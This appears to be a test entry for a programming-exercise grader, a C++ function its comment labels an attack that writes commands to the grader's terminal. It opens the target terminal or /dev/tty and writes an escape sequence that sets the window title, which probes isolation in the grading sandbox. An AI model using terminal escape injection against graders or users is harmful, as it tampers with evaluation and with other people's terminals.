// attack: writes commands to the terminal of who grades
// exercise: 01_gbf/box
// from: own
// score: 0
static bool written() {
    for (const char* name : {PREY_TERMINAL, "/dev/tty"}) {
        const int descriptor = ::open(name, O_WRONLY | O_NOCTTY);
        if (descriptor >= 0 && ::write(descriptor, "\033]0;mine\007", 9) > 0) return true;
    }
    return false;
}

ANSWER_IF(written())
